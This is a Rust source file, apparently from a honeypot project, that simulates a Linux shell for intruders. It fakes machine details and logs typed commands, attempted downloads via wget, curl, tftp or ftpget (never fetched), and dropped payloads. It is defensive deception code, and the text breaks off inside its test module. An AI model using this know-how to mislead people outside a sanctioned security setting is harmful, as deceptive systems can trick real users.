//! The fake shell served to intruders who log in: a plain state machine (bytes
//! in, bytes and events out) so it is tested without sockets.
//!
//! - [`Shell`]: line editing (echo, backspace, Ctrl-C/D/U, Enter), prompts and `> ` continuation
//! - `lex`, `parse`, `arith`, `expand`, `exec`: bash's language, each bounded against hostile input
//! - `cmd`: the programs, one module per family
//! - `fs` and `tree`: the persona's file tree under a per-session copy-on-write overlay
//! - [`Persona`]: what the shell shows about the machine, built once per decky by
//!   [`Persona::for_decky`] for every service that serves the shell (ssh, telnet)

pub(crate) mod arith;
pub(crate) mod cmd;
pub(crate) mod exec;
pub(crate) mod expand;
pub(crate) mod fs;
pub mod lex;
pub mod parse;
pub(crate) mod tree;

use std::collections::{BTreeMap, BTreeSet};
use std::net::IpAddr;
use std::sync::Arc;

use decnet_core::persona::accounts::{self, Account};
use decnet_core::persona::procfs::{CpuModel, CPU_MODELS};
use decnet_core::persona::{Distro, MotdContext, PromptStyle};
use sha2::Digest as _;

use crate::service::DeckyRuntime;
use exec::{Dialect, Io, Run, Sink};

/// Longest command line kept; further typed bytes are dropped, as a terminal would beep.
pub const MAX_LINE: usize = 4096;
/// Commands kept in `history`.
pub const MAX_HISTORY: usize = 500;
/// Variables one session may hold.
pub const MAX_VARS: usize = 512;
/// Longest value one variable may hold.
pub const MAX_VALUE: usize = 256 * 1024;
/// Lines of unfinished input (`> ` continuation) kept before the shell gives up on them.
pub const MAX_PENDING: usize = 64 * 1024;
/// Bytes of a dropped payload carried in its event and kept as its artifact:
/// the cap SFTP and scp uploads have.
pub const MAX_PAYLOAD: usize = crate::kit::artifact::MAX_ARTIFACT;

/// Emits a shell's events as every service that serves the shell reports them:
/// commands and fetches as they ran, payloads kept under
/// `artifacts/<decky>/<service>/uploads` with their `file_upload`.
pub async fn emit_events(ctx: &crate::service::ConnCtx, events: Vec<ShellEvent>) {
    use decnet_core::fields::{Command, FileTransfer};
    for ev in events {
        let e = match ev {
            ShellEvent::Command { command, cwd, user } => {
                ctx.event_of(&Command::new(command).in_shell(cwd, user))
            }
            ShellEvent::Download { url, tool, command } => {
                ctx.event_of(&FileTransfer::download_url(url, tool, command))
            }
            ShellEvent::Upload {
                path,
                data,
                size,
                command,
                ..
            } => {
                let kept =
                    crate::kit::artifact::keep(&ctx.decky.artifacts_dir(ctx.service), &data).await;
                ctx.event_of(&FileTransfer {
                    tool: Some("shell".to_owned()),
                    command: Some(command),
                    ..kept.upload(path, size)
                })
            }
            // The command event of the same line already records what ran.
            ShellEvent::Exec { .. } => continue,
        };
        ctx.emit(e).await;
    }
}

/// What the shell shows about the machine.
#[derive(Debug, Clone)]
pub struct Persona {
    /// `hostname`.
    pub hostname: String,
    /// `uname -r`.
    pub kernel_release: String,
    /// The distro profile.
    pub distro: &'static Distro,
    /// The decky's address (shown by `ifconfig`/`ip a`).
    pub ip: IpAddr,
    /// The prefix length of its network (`/24`).
    pub prefix: u8,
    /// Accounts with a home directory (besides root): the bait world's people.
    pub users: Vec<String>,
    /// CPUs (`nproc`, `/proc/cpuinfo`).
    pub cpus: u32,
    /// Memory in kB (`free`).
    pub mem_kb: u64,
    /// Days since boot (`uptime`).
    pub uptime_days: u32,
    /// MAC address of eth0.
    pub mac: [u8; 6],
    /// The services the decky runs (`ps`, `ss`, `systemctl` show them).
    pub services: Vec<String>,
    /// Boot time (Unix seconds).
    pub boot: i64,
    /// Bytes for everything else that varies per decky (file dates, PIDs, history).
    pub seed: [u8; 32],
    /// The fleet's bait world and the decky's name in it (its people, files and last login).
    pub bait: Arc<decnet_core::bait::World>,
    /// The decky's name (for the bait world).
    pub decky: String,
    /// The machine's accounts, groups and base file tree, built by the first
    /// shell and shared by every later session of the decky (so an exec
    /// request does not rebuild them). Fields above must not change after that.
    built: Arc<std::sync::OnceLock<Arc<Machine>>>,
}

/// What every session of one decky starts from.
#[derive(Debug)]
struct Machine {
    accounts: Vec<Account>,
    groups: Vec<(String, u32, Vec<String>)>,
    tree: Arc<BTreeMap<String, fs::Node>>,
}

impl Persona {
    /// A machine of `distro` with the defaults a test or fuzz target needs.
    pub fn new(distro: &'static Distro, hostname: &str, ip: IpAddr, users: Vec<String>) -> Persona {
        let now = chrono::Utc::now().timestamp();
        Persona {
            hostname: hostname.to_owned(),
            kernel_release: distro.kernel_release.to_owned(),
            distro,
            ip,
            prefix: 24,
            users,
            cpus: 2,
            mem_kb: 4_025_000,
            uptime_days: 41,
            mac: [0x52, 0x54, 0x00, 0x12, 0x34, 0x56],
            services: vec!["ssh".to_owned()],
            boot: now - 41 * 86_400 - 13_577,
            seed: [7; 32],
            bait: Arc::default(),
            decky: hostname.to_owned(),
            built: Arc::default(),
        }
    }

    /// The machine a decky's shell shows, the same whichever service serves it.
    ///
    /// `hostname` and `kernel_release` override the decky's hostname and the
    /// distro's kernel; `users` get home directories. CPUs, memory, uptime and
    /// MAC come from the instance seed (under the labels SSH has always used,
    /// so a decky's ssh and telnet show one machine and restarts change nothing).
    /// The network prefix is the decky's (`net` of the fleet, else /24). The
    /// bait world's people with an account on the decky get homes too, and its
    /// planted files are laid over the persona's.
    pub fn for_decky(
        decky: &DeckyRuntime,
        hostname: Option<&str>,
        kernel_release: Option<&str>,
        users: Vec<String>,
    ) -> Persona {
        let d = decky.config.distro;
        let seed = &decky.seed;
        let mut mac = [0x52, 0x54, 0x00, 0, 0, 0];
        for (dst, src) in mac.iter_mut().skip(3).zip(seed.derive(b"ssh-mac")) {
            *dst = src;
        }
        let uptime_days = 3 + u32::try_from(seed.pick(b"ssh-uptime", 200)).unwrap_or(0);
        let extra = i64::try_from(seed.pick(b"shell-boot-secs", 86_400)).unwrap_or(0);
        let now = chrono::Utc::now().timestamp();
        Persona {
            hostname: hostname
                .map(str::to_owned)
                .unwrap_or_else(|| decky.config.hostname.clone()),
            kernel_release: kernel_release.unwrap_or(d.kernel_release).to_owned(),
            distro: d,
            ip: decky.config.ip,
            prefix: decky.prefix,
            users: {
                let mut users = users;
                for login in decky.bait.logins_on(&decky.config.name) {
                    if !users.contains(&login) {
                        users.push(login);
                    }
                }
                users
            },
            cpus: [1, 2, 2, 4, 4, 8]
                .get(usize::try_from(seed.pick(b"ssh-cpus", 6)).unwrap_or(0))
                .copied()
                .unwrap_or(2),
            mem_kb: [2_030_000, 4_025_000, 8_140_000, 16_310_000]
                .get(usize::try_from(seed.pick(b"ssh-mem", 4)).unwrap_or(0))
                .copied()
                .unwrap_or(4_025_000),
            uptime_days,
            mac,
            services: decky
                .config
                .services
                .iter()
                .map(|s| s.name.clone())
                .collect(),
            boot: now - i64::from(uptime_days) * 86_400 - extra,
            seed: seed.derive(b"shell"),
            bait: Arc::clone(&decky.bait),
            decky: decky.config.name.clone(),
            built: Arc::default(),
        }
    }

    /// A number in `0..n` for one purpose, stable for this decky.
    pub fn pick(&self, label: &str, n: u64) -> u64 {
        if n == 0 {
            return 0;
        }
        let mut h = sha2::Sha256::new();
        h.update(self.seed);
        h.update(label.as_bytes());
        let d = h.finalize();
        let mut x = [0u8; 8];
        for (dst, src) in x.iter_mut().zip(d.iter()) {
            *dst = *src;
        }
        u64::from_le_bytes(x) % n
    }

    /// When the machine was installed (Unix seconds): the release date plus up to a year.
    pub fn installed(&self) -> i64 {
        let jitter = i64::try_from(self.pick("installed", 300 * 86_400)).unwrap_or(0);
        (self.distro.installed + jitter).min(self.boot - 86_400)
    }

    /// The CPU it reports, with its own host's clock calibration: each host
    /// calibrates its TSC at boot some kHz off the nominal clock, and a KVM guest
    /// reports that as `cpu MHz` (and twice it as `bogomips`), so guests on
    /// different hosts differ there even on the same CPU model.
    pub fn cpu(&self) -> CpuModel {
        let i = usize::try_from(self.pick("cpu", CPU_MODELS.len() as u64)).unwrap_or(0);
        let mut m = *CPU_MODELS.get(i).unwrap_or(&CPU_MODELS[0]);
        // ±99 kHz, within what hosts of one model calibrate to.
        let off = i64::try_from(self.pick("cpu-tsc", 199)).unwrap_or(99) - 99;
        m.mhz_milli = m.mhz_milli.saturating_add_signed(off);
        m.bogomips_centi = m.mhz_milli / 5;
        m
    }

    /// Whether the decky runs a service.
    pub fn runs(&self, service: &str) -> bool {
        self.services.iter().any(|s| s == service)
    }

    /// What an interactive login prints before the first prompt: the release's
    /// own MOTD, then `Last login:` from the bait world's history where the
    /// release's sshd prints one; `\r\n` line ends.
    pub fn login_banner(&self, peer: IpAddr, now: chrono::DateTime<chrono::Utc>) -> String {
        let _ = peer;
        let mut text = self.distro.motd(&MotdContext {
            hostname: &self.hostname,
            kernel_release: &self.kernel_release,
            ip: self.ip,
        });
        if self.distro.last_login {
            let (when, from) = self.last_login(now.timestamp());
            if let Some(dt) = chrono::DateTime::<chrono::Utc>::from_timestamp(when, 0) {
                text.push_str(&format!(
                    "Last login: {} from {}\n",
                    dt.format("%a %b %e %H:%M:%S %Y"),
                    from
                ));
            }
        }
        text.replace('\n', "\r\n")
    }

    /// The previous login (time, source address): an administrator on the
    /// internal network some hours to days before `now`, from the seed. Where
    /// the bait world has IT staff with an account here, it is from another
    /// decky of the fleet, so `last` and the banner name a host that exists.
    pub fn last_login(&self, now: i64) -> (i64, String) {
        let ago = 3_600 + i64::try_from(self.pick("last-login", 5 * 86_400)).unwrap_or(0);
        if let Some((_, from)) = self.bait.last_login(&self.decky) {
            return (now - ago, from.ip.to_string());
        }
        let host = 10 + self.pick("last-login-host", 200);
        let net = match self.ip {
            IpAddr::V4(v)
                if v.octets()[0] == 10 || v.octets()[0] == 192 || v.octets()[0] == 172 =>
            {
                let o = v.octets();
                format!("{}.{}.{}", o[0], o[1], o[2])
            }
            _ => "10.0.1".to_owned(),
        };
        (now - ago, format!("{net}.{host}"))
    }

    /// `/proc/version` with the persona's kernel release.
    pub fn proc_version(&self) -> String {
        format!(
            "Linux version {} ({}) {}\n",
            self.kernel_release, self.distro.kernel_compiler, self.distro.kernel_build
        )
    }

    fn machine(&self) -> Arc<Machine> {
        self.built
            .get_or_init(|| {
                let accounts = self.accounts();
                let group_text = self.group_file(&accounts);
                let groups = group_text
                    .lines()
                    .filter_map(|l| {
                        let f: Vec<&str> = l.split(':').collect();
                        let gid = f.get(2)?.parse().ok()?;
                        let members = f
                            .get(3)
                            .map(|m| {
                                m.split(',')
                                    .filter(|s| !s.is_empty())
                                    .map(str::to_owned)
                                    .collect()
                            })
                            .unwrap_or_default();
                        Some(((*f.first()?).to_owned(), gid, members))
                    })
                    .collect();
                let tree = Arc::new(tree::build(self, &accounts, &group_text));
                Arc::new(Machine {
                    accounts,
                    groups,
                    tree,
                })
            })
            .clone()
    }

    /// The accounts `/etc/passwd` lists: the release's, the services', the bait users'.
    pub fn accounts(&self) -> Vec<Account> {
        let mut a = accounts::parse_passwd(accounts::base_passwd(self.distro));
        let debian = matches!(self.distro.packaging, decnet_core::persona::Packaging::Deb);
        let mut sys_uid = if debian { 102 } else { 990 };
        let mut add = |a: &mut Vec<Account>, name: &str, gecos: &str, home: &str| {
            if a.iter().any(|x| x.name == name) {
                return;
            }
            let nologin = if debian {
                "/usr/sbin/nologin"
            } else {
                "/sbin/nologin"
            };
            a.push(Account {
                name: name.to_owned(),
                uid: sys_uid,
                gid: sys_uid,
                gecos: gecos.to_owned(),
                home: home.to_owned(),
                shell: if name == "postgres" {
                    "/bin/bash".to_owned()
                } else {
                    nologin.to_owned()
                },
            });
            sys_uid = if debian { sys_uid + 1 } else { sys_uid - 1 };
        };
        for s in &self.services {
            match s.as_str() {
                "mysql" => add(&mut a, "mysql", "MySQL Server,,,", "/nonexistent"),
                "postgres" => add(
                    &mut a,
                    "postgres",
                    "PostgreSQL administrator,,,",
                    "/var/lib/postgresql",
                ),
                "redis" => add(&mut a, "redis", "", "/var/lib/redis"),
                "smtp" => add(&mut a, "postfix", "", "/var/spool/postfix"),
                "imap" | "pop3" => {
                    add(
                        &mut a,
                        "dovecot",
                        "Dovecot mail server,,,",
                        "/usr/lib/dovecot",
                    );
                    add(&mut a, "dovenull", "Dovecot login user,,,", "/nonexistent");
                }
                "snmp" => add(&mut a, "Debian-snmp", "", "/var/lib/snmp"),
                "mqtt" => add(&mut a, "mosquitto", "", "/var/lib/mosquitto"),
                "ftp" => add(&mut a, "ftp", "ftp daemon,,,", "/srv/ftp"),
                _ => {}
            }
        }
        let first = 1000;
        for (i, u) in self
            .users
            .iter()
            .filter(|u| u.as_str() != "root")
            .enumerate()
        {
            if a.iter().any(|x| x.name == *u) {
                continue;
            }
            let uid = first + u32::try_from(i).unwrap_or(0);
            let name = self
                .bait
                .person(u)
                .map_or(u.as_str(), |p| p.full_name.as_str());
            let gecos = if debian {
                format!("{name},,,")
            } else {
                name.to_owned()
            };
            a.push(Account {
                name: u.clone(),
                uid,
                gid: uid,
                gecos,
                home: format!("/home/{u}"),
                shell: "/bin/bash".to_owned(),
            });
        }
        a
    }

    /// `/etc/group`: the release's groups, the bait users' own groups, admins in sudo/wheel.
    pub fn group_file(&self, accounts: &[Account]) -> String {
        let admin = accounts::admin_group(self.distro);
        let people: Vec<&Account> = accounts
            .iter()
            .filter(|a| a.uid >= 1000 && a.uid < 60_000)
            .collect();
        let admins: Vec<&str> = people.iter().take(1).map(|a| a.name.as_str()).collect();
        let mut out = String::new();
        for l in accounts::base_group(self.distro).lines() {
            let mut line = l.to_owned();
            let name = l.split(':').next().unwrap_or("");
            if name == admin && !admins.is_empty() {
                if !line.ends_with(':') {
                    line.push(',');
                }
                line.push_str(&admins.join(","));
            }
            out.push_str(&line);
            out.push('\n');
        }
        let missing: Vec<&Account> = accounts
            .iter()
            .filter(|a| a.uid >= 100 && !out.contains(&format!("\n{}:x:", a.name)))
            .collect();
        for a in missing {
            out.push_str(&format!("{}:x:{}:\n", a.name, a.gid));
        }
        out
    }
}

/// Something the shell saw that is worth an event.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ShellEvent {
    /// A command line was entered.
    Command {
        /// The line as typed.
        command: String,
        /// Working directory when it ran.
        cwd: String,
        /// Logged-in user.
        user: String,
    },
    /// A download tool was pointed at a URL (never fetched).
    Download {
        /// The URL.
        url: String,
        /// `wget`, `curl`, `tftp`, `ftpget`.
        tool: String,
        /// The command part that named it.
        command: String,
    },
    /// Something that looks like a payload was written into the session filesystem.
    Upload {
        /// Where it was written.
        path: String,
        /// Its bytes (at most [`MAX_PAYLOAD`]).
        data: Vec<u8>,
        /// Its length in all.
        size: u64,
        /// SHA-256 of `data`, lower-case hex.
        sha256: String,
        /// Whether the file was longer than [`MAX_PAYLOAD`] and `data` is its start.
        truncated: bool,
        /// The command line that wrote it.
        command: String,
    },
    /// A file the session dropped, or an interpreter, was run.
    Exec {
        /// The program or script path.
        path: String,
        /// The command line.
        command: String,
    },
}

/// What feeding bytes to the shell produced.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct Step {
    /// Bytes for the terminal.
    pub output: Vec<u8>,
    /// Events to emit.
    pub events: Vec<ShellEvent>,
    /// The shell exited (`exit`, `logout`, Ctrl-D on an empty line).
    pub exit: bool,
}

/// Where the session is: cwd, user, variables, functions, history, its files.
#[derive(Debug, Clone)]
pub struct State {
    /// The machine.
    pub persona: Persona,
    /// Its files.
    pub fs: fs::Fs,
    /// Logged-in user.
    pub user: String,
    /// Their uid.
    pub uid: u32,
    /// Their gid.
    pub gid: u32,
    /// Their home.
    pub home: String,
    /// Working directory.
    pub cwd: String,
    /// Shell variables.
    pub vars: BTreeMap<String, String>,
    /// Which of them are exported.
    pub exported: BTreeSet<String>,
    /// Functions defined.
    pub functions: BTreeMap<String, parse::Compound>,
    /// Positional parameters (`$1`…).
    pub positional: Vec<String>,
    /// `$?`.
    pub status: i32,
    /// Command lines entered.
    pub history: Vec<String>,
    /// Whether stdout of the command running is a terminal (`ls` columns).
    pub tty: bool,
    /// When the session started (Unix seconds).
    pub login: i64,
    /// The session's shell PID.
    pub pid: u32,
    /// Where the session comes from (`w`, `who`, `$SSH_CLIENT` show it).
    pub peer: std::net::SocketAddr,
    /// Next PID handed out.
    next_pid: u32,
    /// Accounts (`/etc/passwd`).
    accounts: Vec<Account>,
    /// Groups (name, gid, members).
    groups: Vec<(String, u32, Vec<String>)>,
    /// Payload hashes already reported.
    reported: BTreeSet<String>,
}

impl State {
    /// A fresh login of `user`.
    pub fn new(persona: Persona, user: &str) -> State {
        let machine = persona.machine();
        let login = chrono::Utc::now().timestamp();
        let fs = fs::Fs::new(machine.tree.clone());
        let accounts = machine.accounts.clone();
        let groups = machine.groups.clone();
        let acct = accounts.iter().find(|a| a.name == user);
        let (uid, gid, home) = match acct {
            Some(a) => (a.uid, a.gid, a.home.clone()),
            None if user == "root" => (0, 0, "/root".to_owned()),
            None => (1000, 1000, format!("/home/{user}")),
        };
        let pid = 1_000
            + u32::try_from(persona.pick("session-pid", 30_000)).unwrap_or(0)
            + u32::try_from((login - persona.boot).max(0) / 400).unwrap_or(0) % 20_000;
        let mut st = State {
            persona,
            fs,
            user: user.to_owned(),
            uid,
            gid,
            cwd: home.clone(),
            home: home.clone(),
            vars: BTreeMap::new(),
            exported: BTreeSet::new(),
            functions: BTreeMap::new(),
            positional: Vec::new(),
            status: 0,
            history: Vec::new(),
            tty: true,
            login,
            pid,
            peer: std::net::SocketAddr::from(([10, 0, 0, 2], 50_022)),
            next_pid: pid + 1,
            accounts,
            groups,
            reported: BTreeSet::new(),
        };
        let hostname = st.persona.hostname.clone();
        let path = if uid == 0 {
            "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
        } else {
            "/usr/local/bin:/usr/bin:/bin:/usr/local/games:/usr/games"
        };
        let lang = if st.persona.distro.os_id == "debian" {
            "C.UTF-8"
        } else {
            "en_US.UTF-8"
        };
        for (k, v) in [
            ("HOME", home.as_str()),
            ("USER", user),
            ("LOGNAME", user),
            ("SHELL", "/bin/bash"),
            ("PATH", path),
            ("LANG", lang),
            ("PWD", home.as_str()),
            ("SHLVL", "1"),
            ("TERM", "xterm-256color"),
            ("MAIL", &format!("/var/mail/{user}")),
        ] {
            st.vars.insert(k.to_owned(), v.to_owned());
            st.exported.insert(k.to_owned());
        }
        st.vars.insert("HOSTNAME".to_owned(), hostname);
        st.vars.insert(
            "BASH_VERSION".to_owned(),
            st.persona.distro.bash_version.to_owned(),
        );
        st.vars.insert("IFS".to_owned(), " \t\n".to_owned());
        st.vars
            .insert("PS1".to_owned(), "\\u@\\h:\\w\\$ ".to_owned());
        st.vars.insert("UID".to_owned(), uid.to_string());
        st.vars.insert("EUID".to_owned(), uid.to_string());
        st
    }

    /// The clock (Unix seconds).
    pub fn now(&self) -> i64 {
        chrono::Utc::now().timestamp()
    }

    /// A fresh PID for a process the session starts.
    pub fn next_pid(&mut self) -> u32 {
        self.next_pid += 1 + self.next_pid % 3;
        self.next_pid
    }

    /// The PID the next process would get (`ps` shows itself with it).
    pub fn peek_pid(&self) -> u32 {
        self.next_pid + 1
    }

    /// Sets a variable within the caps; `false` when the cap refuses it.
    pub fn set_var(&mut self, name: &str, mut value: String) -> bool {
        if self.vars.len() >= MAX_VARS && !self.vars.contains_key(name) {
            return false;
        }
        if value.len() > MAX_VALUE {
            let mut cut = MAX_VALUE;
            while !value.is_char_boundary(cut) {
                cut -= 1;
            }
            value.truncate(cut);
        }
        self.vars.insert(name.to_owned(), value);
        true
    }

    /// The value of a parameter (`HOME`, `?`, `$`, `1`, `#`, `@`); `None` when unset.
    pub fn param(&self, name: &str) -> Option<String> {
        match name {
            "?" => Some(self.status.to_string()),
            "$" => Some(self.pid.to_string()),
            "!" => Some(self.next_pid.to_string()),
            "#" => Some(self.positional.len().to_string()),
            "@" | "*" => Some(self.positional.join(" ")),
            "-" => Some("himBHs".to_owned()),
            "0" => Some(
                self.vars
                    .get("0")
                    .cloned()
                    .unwrap_or_else(|| "-bash".to_owned()),
            ),
            "RANDOM" => Some((self.next_pid.wrapping_mul(7919) % 32_768).to_string()),
            "SECONDS" => Some((self.now() - self.login).to_string()),
            n if n.bytes().all(|b| b.is_ascii_digit()) => {
                let i: usize = n.parse().ok()?;
                self.positional.get(i.checked_sub(1)?).cloned()
            }
            n => self.vars.get(n).cloned(),
        }
    }

    /// The uid of an account.
    pub fn uid_of(&self, name: &str) -> Option<u32> {
        self.accounts.iter().find(|a| a.name == name).map(|a| a.uid)
    }

    /// The gid of a group.
    pub fn gid_of(&self, name: &str) -> Option<u32> {
        self.groups.iter().find(|g| g.0 == name).map(|g| g.1)
    }

    /// The name `ls -l` shows for a uid.
    pub fn user_name(&self, uid: u32) -> String {
        self.accounts
            .iter()
            .find(|a| a.uid == uid)
            .map_or_else(|| uid.to_string(), |a| a.name.clone())
    }

    /// The name `ls -l` shows for a gid.
    pub fn group_name(&self, gid: u32) -> String {
        self.groups
            .iter()
            .find(|g| g.1 == gid)
            .map_or_else(|| gid.to_string(), |g| g.0.clone())
    }

    /// The home directory of an account (`~name`).
    pub fn home_of(&self, name: &str) -> Option<String> {
        self.accounts
            .iter()
            .find(|a| a.name == name)
            .map(|a| a.home.clone())
    }

    /// The accounts.
    pub fn accounts(&self) -> &[Account] {
        &self.accounts
    }

    /// The groups a user belongs to (primary first), as `id` lists them.
    pub fn groups_of(&self, user: &str) -> Vec<(String, u32)> {
        let Some(a) = self.accounts.iter().find(|a| a.name == user) else {
            return Vec::new();
        };
        let mut out = vec![(self.group_name(a.gid), a.gid)];
        for g in &self.groups {
            if g.2.iter().any(|m| m == user) && g.1 != a.gid {
                out.push((g.0.clone(), g.1));
            }
        }
        out
    }

    /// Files whose text depends on the moment they are read (`/proc/uptime`).
    pub fn dynamic_file(&self, path: &str) -> Option<Vec<u8>> {
        tree::dynamic(self, path)
    }

    /// Runs one command line (without line editing), returning output with `\n` newlines.
    pub fn run_line(&mut self, line: &str) -> Step {
        self.run_as(line, Dialect::Login)
    }

    /// Runs a script in a dialect: the login shell's, or `bash -c`'s for exec requests.
    pub fn run_as(&mut self, line: &str, dialect: Dialect) -> Step {
        let mut step = Step::default();
        let trimmed = line.trim();
        if trimmed.is_empty() {
            return step;
        }
        if self.history.len() >= MAX_HISTORY {
            self.history.remove(0);
        }
        self.history.push(trimmed.to_owned());
        step.events.push(ShellEvent::Command {
            command: trimmed.to_owned(),
            cwd: self.cwd.clone(),
            user: self.user.clone(),
        });
        self.tty = dialect == Dialect::Login;
        let mut run = Run::new(self, dialect, trimmed);
        let io = Io {
            input: exec::Input::empty(),
            out: Sink::Term,
            err: Sink::Term,
        };
        run.script(line, &io);
        let payloads = run.payloads();
        let exit = run.exit;
        let term = std::mem::take(&mut run.term);
        let mut events = std::mem::take(&mut run.events);
        drop(run);
        for (path, data, size) in payloads {
            let truncated = size > data.len();
            let sha256 = hex::encode(sha2::Sha256::digest(&data));
            if self.reported.insert(sha256.clone()) {
                events.push(ShellEvent::Upload {
                    path,
                    data,
                    size: size as u64,
                    sha256,
                    truncated,
                    command: trimmed.to_owned(),
                });
            }
        }
        step.events.extend(events);
        step.output = term;
        step.exit = exit;
        step
    }

    /// The prompt: Debian `user@host:~#` or RHEL `[user@host ~]#`.
    pub fn prompt(&self) -> String {
        let sigil = if self.uid == 0 { '#' } else { '$' };
        let short = self.persona.hostname.split('.').next().unwrap_or("");
        if self.persona.distro.prompt == PromptStyle::Rhel {
            let base = if self.cwd == self.home {
                "~"
            } else if self.cwd == "/" {
                "/"
            } else {
                self.cwd.rsplit('/').next().unwrap_or("/")
            };
            format!("[{}@{} {}]{} ", self.user, short, base, sigil)
        } else {
            let shown = if self.cwd == self.home {
                "~".to_owned()
            } else if let Some(rest) = self.cwd.strip_prefix(&format!("{}/", self.home)) {
                format!("~/{rest}")
            } else {
                self.cwd.clone()
            };
            format!("{}@{}:{}{} ", self.user, short, shown, sigil)
        }
    }
}

/// An interactive shell on a terminal: line editing on top of [`State`].
#[derive(Debug, Clone)]
pub struct Shell {
    state: State,
    line: Vec<u8>,
    /// Lines of an unfinished command (open quote, `if` without `fi`).
    pending: String,
    esc: EscState,
    exited: bool,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum EscState {
    None,
    Esc,
    Csi,
}

impl Shell {
    /// A shell for `user` on the persona's machine.
    pub fn new(persona: Persona, user: &str) -> Shell {
        Shell {
            state: State::new(persona, user),
            line: Vec::new(),
            pending: String::new(),
            esc: EscState::None,
            exited: false,
        }
    }

    /// The same shell for a session from `peer` (what `w`, `who` and `$SSH_CLIENT` show).
    pub fn with_peer(mut self, peer: std::net::SocketAddr) -> Shell {
        self.state.peer = peer;
        self
    }

    /// The session state.
    pub fn state(&self) -> &State {
        &self.state
    }

    /// Puts a file that arrived over SFTP or scp into the session filesystem,
    /// as the logged-in user (relative names start at the home directory). It
    /// was captured on arrival, so it is not reported again as a shell payload;
    /// a file the user could not have written there is left out, as the
    /// transfer would have failed on a real host.
    pub fn receive(&mut self, name: &str, data: &[u8]) {
        let st = &mut self.state;
        let path = fs::resolve(&st.home, &st.home, name);
        let now = st.now();
        if st.fs.write(&path, data, false, st.uid, now).is_ok() {
            // Between command lines nothing else is waiting to be reported.
            st.fs.take_dirty();
        }
    }

    /// What a login shows: the prompt.
    pub fn banner(&self) -> Vec<u8> {
        self.state.prompt().into_bytes()
    }

    /// Runs one `exec` command as sshd does (`bash -c`): output with `\n` newlines, events, exit status.
    pub fn exec(&mut self, command: &str) -> (Vec<u8>, Vec<ShellEvent>, u32) {
        let step = self.state.run_as(command, Dialect::Bash);
        let status = u32::try_from(self.state.status.rem_euclid(256)).unwrap_or(0);
        (step.output, step.events, status)
    }

    fn enter(&mut self, step: &mut Step) {
        let typed = String::from_utf8_lossy(&self.line).into_owned();
        self.line.clear();
        let src = if self.pending.is_empty() {
            typed
        } else {
            format!("{}\n{typed}", self.pending)
        };
        // An open quote or compound asks for more lines, as bash's `> ` prompt does.
        if src.len() < MAX_PENDING {
            if let Err(e) = parse::parse(&src) {
                if e.incomplete() {
                    self.pending = src;
                    step.output.extend_from_slice(b"> ");
                    return;
                }
            }
        }
        self.pending.clear();
        let r = self.state.run_line(&src);
        step.output.extend_from_slice(&crlf(&r.output));
        step.events.extend(r.events);
        if r.exit {
            self.exited = true;
            step.exit = true;
            return;
        }
        step.output
            .extend_from_slice(self.state.prompt().as_bytes());
    }

    /// Feeds typed bytes; returns what the terminal shows and what happened.
    pub fn feed(&mut self, input: &[u8]) -> Step {
        let mut step = Step::default();
        for &b in input {
            if self.exited {
                break;
            }
            match self.esc {
                EscState::Esc => {
                    self.esc = if b == b'[' || b == b'O' {
                        EscState::Csi
                    } else {
                        EscState::None
                    };
                    continue;
                }
                EscState::Csi => {
                    // Cursor keys and the like end with a byte in 0x40..=0x7e; they are ignored.
                    if (0x40..=0x7e).contains(&b) {
                        self.esc = EscState::None;
                    }
                    continue;
                }
                EscState::None => {}
            }
            match b {
                b'\r' | b'\n' => {
                    step.output.extend_from_slice(b"\r\n");
                    self.enter(&mut step);
                    if step.exit {
                        break;
                    }
                }
                0x03 => {
                    self.line.clear();
                    self.pending.clear();
                    step.output.extend_from_slice(b"^C\r\n");
                    step.output
                        .extend_from_slice(self.state.prompt().as_bytes());
                }
                0x04 => {
                    if self.line.is_empty() && self.pending.is_empty() {
                        step.output.extend_from_slice(b"logout\r\n");
                        self.exited = true;
                        step.exit = true;
                        break;
                    }
                }
                0x7f | 0x08 => {
                    if self.line.is_empty() {
                        continue;
                    }
                    // Remove one whole UTF-8 character.
                    while let Some(last) = self.line.pop() {
                        if last & 0xC0 != 0x80 {
                            break;
                        }
                    }
                    step.output.extend_from_slice(b"\x08 \x08");
                }
                0x15 => {
                    for _ in 0..String::from_utf8_lossy(&self.line).chars().count() {
                        step.output.extend_from_slice(b"\x08 \x08");
                    }
                    self.line.clear();
                }
                0x0c => {
                    step.output.extend_from_slice(b"\x1b[H\x1b[2J");
                    step.output
                        .extend_from_slice(self.state.prompt().as_bytes());
                    step.output.extend_from_slice(&self.line);
                }
                0x1b => self.esc = EscState::Esc,
                b if b < 0x20 => {}
                b => {
                    if self.line.len() < MAX_LINE {
                        self.line.push(b);
                        step.output.push(b);
                    }
                }
            }
        }
        step
    }
}

/// `\n` → `\r\n`, as a terminal in cooked mode shows it.
pub fn crlf(s: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(s.len() + s.len() / 8);
    for &b in s {
        if b == b'\n' {
            out.push(b'\r');
        }
        out.push(b);
    }
    out
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;
    use decnet_core::persona::distro;
    use proptest::prelude::*;

    pub(crate) fn persona(slug: &str) -> Persona {
        let d = distro(slug).unwrap();
        Persona::new(
            d,
            "web-prod-03",
            "10.0.0.5".parse().unwrap(),
            vec!["root".into(), "admin".into()],
        )
    }

    #[test]
    fn deckies_on_one_cpu_model_differ_in_their_hosts_clock_calibration() {
        let mut seen = std::collections::HashSet::new();
        for i in 0..8u8 {
            let mut p = persona("debian");
            p.seed = [i; 32];
            let m = p.cpu();
            let nominal = CPU_MODELS.iter().find(|c| c.name == m.name).unwrap();
            assert!(m.mhz_milli.abs_diff(nominal.mhz_milli) <= 99, "{m:?}");
            // bogomips is twice the calibrated clock, as a KVM guest prints it.
            assert_eq!(m.bogomips_centi, m.mhz_milli * 2 / 10);
            assert_eq!(p.cpu(), m, "stable per decky");
            seen.insert(decnet_core::persona::procfs::cpuinfo(&m, 2));
        }
        assert!(seen.len() > 6, "{} distinct cpuinfo texts of 8", seen.len());
    }

    fn run(sh: &mut Shell, line: &str) -> (String, Vec<ShellEvent>) {
        let mut input = line.as_bytes().to_vec();
        input.push(b'\r');
        let s = sh.feed(&input);
        (String::from_utf8_lossy(&s.output).into_owned(), s.events)
    }

    fn runtime(name: &str, slug: &str) -> DeckyRuntime {
        DeckyRuntime {
            config: decnet_core::config::model::DeckyConfig {
